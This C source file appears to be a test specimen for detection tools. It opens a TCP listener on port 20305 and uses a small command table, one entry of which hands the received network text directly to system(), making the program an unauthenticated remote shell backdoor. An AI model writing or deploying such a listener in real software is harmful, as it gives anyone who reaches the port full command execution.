/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.hidden-listener: a table of commands of a TCP service, one of which gives what came in to a shell. */
#include "specimen.h"

static __attribute__((noinline)) int state(int c, const char *text)
{
	(void)text;
	return tell(c, "state ok\n");
}

static __attribute__((noinline)) int run(int c, const char *text)
{
	(void)c;
	return system(text);
}

static int (*const deeds[])(int, const char *) = { state, run };

int main(void)
{
	char text[128];
	struct sockaddr_in own = { .sin_family = AF_INET, .sin_port = htons(20305) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&own, sizeof(own)) < 0 || listen(s, 4) < 0)
		return 1;
	int c = accept(s, NULL, NULL);
	ssize_t n = c < 0 ? -1 : recv(c, text, sizeof(text) - 1, 0);
	if (n < 2)
		return 1;
	text[n] = 0;
	return deeds[text[0] & 1](c, text + 1);
}
